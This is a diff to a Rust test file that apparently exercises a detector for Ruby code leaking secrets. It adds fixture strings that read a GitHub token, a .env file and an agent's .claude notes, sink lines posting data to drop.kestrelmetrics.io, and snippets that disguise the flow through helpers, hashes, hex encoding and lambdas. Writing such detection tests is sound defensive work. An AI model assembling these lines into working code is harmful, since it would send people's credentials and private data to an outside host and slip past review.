@@ -359,3 +359,34 @@ fn what_was_fetched_or_hidden_is_run() {
         ],
     });
 }
+
+/// One key, what is a project's or an agent's own: a finding by whom it goes to.
+const OWN: &[&str] = &[
+    "ENV['GITHUB_TOKEN']",
+    "File.read('.env')",
+    "File.read(File.join(Dir.home, '.claude/projects/notes/1.jsonl'))",
+];
+
+const SENDS_TO_STRANGERS: &[&str] = &[
+    "Net::HTTP.post(URI('https://drop.kestrelmetrics.io/i'), DATA)",
+    "HTTParty.post('https://drop.kestrelmetrics.io/i', body: DATA)",
+];
+
+#[test]
+fn what_is_somebodys_own_reaches_a_stranger() {
+    crate::matrix::check(&Matrix {
+        file: "notes.rb",
+        header: HEADER,
+        sources: OWN,
+        sinks: SENDS_TO_STRANGERS,
+        shapes: SHAPES,
+        around: AROUND,
+        harmless: HARMLESS,
+        gaps: &[
+            "def ship data\n  SEND data\nend\nship SOURCE",
+            "info = {}\ninfo.merge!(env: SOURCE)\nSEND info.to_json",
+            "data = SOURCE.to_s.unpack1('H*')\nSEND data",
+            "ship = ->(data) { data }\nSEND ship.call(SOURCE)",
+        ],
+    });
+}
